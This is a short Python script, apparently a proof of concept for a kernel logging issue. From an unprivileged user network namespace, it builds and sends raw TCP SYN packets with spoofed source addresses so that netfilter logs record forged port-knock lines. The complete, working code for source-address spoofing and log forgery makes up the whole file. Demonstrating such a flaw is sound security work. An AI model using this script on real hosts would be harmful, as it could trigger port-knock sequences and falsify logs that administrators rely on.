#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
# forge.py IFACE DST_MAC SRC DST PORT... — what an unprivileged user can do in a network
# namespace of their own (unshare -rn, where they hold CAP_NET_RAW): send hand-built
# Ethernet/IPv4/TCP SYNs with any source address out of IFACE with an AF_PACKET socket,
# one per PORT, 100 ms apart. With net.netfilter.nf_log_all_netns=1, a log rule in that
# namespace makes the kernel write genuine-looking knock lines for them.
import socket
import struct
import sys
import time


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def syn(src, dst, sport, dport, ident):
    saddr, daddr = socket.inet_aton(src), socket.inet_aton(dst)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, 1000 + ident, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = saddr + daddr + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), ident, 0x4000, 64,
                     socket.IPPROTO_TCP, 0, saddr, daddr)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


def main(argv):
    iface, dst_mac, src, dst = argv[1:5]
    ports = [int(p) for p in argv[5:]]
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    # Any source MAC will do: the receiving veth end only looks at the destination.
    eth = bytes.fromhex(dst_mac.replace(":", "")) + bytes.fromhex("020000000066") \
        + struct.pack("!H", 0x0800)
    for i, port in enumerate(ports):
        s.send(eth + syn(src, dst, 40000 + i, port, 100 + i))
        time.sleep(0.1)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
